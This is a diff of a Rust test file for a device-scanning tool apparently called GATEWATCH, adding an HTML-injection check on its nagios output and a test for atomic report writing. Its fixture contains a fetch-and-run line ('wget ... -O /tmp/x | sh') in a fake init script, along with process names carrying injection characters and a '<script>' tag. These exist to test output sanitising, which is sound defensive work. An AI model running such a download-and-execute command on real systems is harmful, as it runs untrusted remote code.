@@ -28,7 +28,7 @@ fn command(root: &Path, format: &str) -> Command {
 fn each_tree(mut test: impl FnMut(&str, &Path, &Outcome)) {
     let hostile = Tree::healthy()
         .process(812, b"a|b=c\"\\\n}", b"/tmp/.x|'y'=1;;;0\\z\n (deleted)", b"x\0")
-        .process(813, b"GATEWATCH OK - |", b"/tmp/x\n# TYPE x y\nCEF:0|a|b (deleted)", b"x\0")
+        .process(813, b"OK - | <script>", b"/tmp/x\n# TYPE x y\nCEF:0|a|b (deleted)", b"x\0")
         .file("etc/init.d/y|z=\"\\\n", "wget http://198.51.100.9/x -O /tmp/x | sh\n/tmp/x =1|2;;\\\n");
     let recordings = golden::names().0.into_iter().map(|name| golden::place().join(name));
     for root in recordings.chain([hostile.path().to_owned()]) {
@@ -76,6 +76,7 @@ fn a_plugin_is_read_as_it_is_meant() {
         let (status, text) = told(&mut command(root, "nagios"));
         let (head, rest) = text.split_once('\n').unwrap();
         assert_eq!((status, text.matches('|').count()), (json.status, 1), "{name}: {text}");
+        assert!(!text.contains(['<', '>']), "{name}: a page may take it for HTML: {text}");
         assert!(head.len() < 1024 && text.len() < 8192, "{name}: {text}");
         let (words, data) = head.split_once(" | ").unwrap();
         let state = ["OK", "WARNING", "CRITICAL", "UNKNOWN"][status as usize];
@@ -481,6 +482,26 @@ fn a_report_goes_into_a_file() {
             .arg(&file),
     );
     assert_eq!((status, fs::read_to_string(&file).unwrap().as_str()), (0, ""));
+}
+
+/// A kernel or a file system that gives no file without a name, here for want of /proc, and what a killed run left there.
+#[test]
+fn a_file_that_has_a_name_before_it_is_whole() {
+    need_root();
+    let clean = recording("tplink-archerc7-openwrt-mips");
+    let place = tempfile::tempdir().unwrap();
+    let file = place.path().join("report");
+    fs::write(&file, "old").unwrap();
+    fs::write(place.path().join("report.new"), "half").unwrap();
+    let Ran { status, stderr, .. } = run(Command::new("unshare")
+        .args(["-m", "sh", "-c", r#"umount -l /proc && exec "$@""#, "sh", GATEWATCH])
+        .args(command(&clean, "json").get_args())
+        .arg("-o")
+        .arg(&file));
+    assert_eq!((status, stderr.as_str()), (0, ""));
+    assert!(fs::read_to_string(&file).unwrap().contains("\"verdict\":\"clean\""));
+    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7777, 0o600);
+    assert_eq!(fs::read_dir(&place).unwrap().count(), 1, "what another left is gone");
 }
 
 #[test]
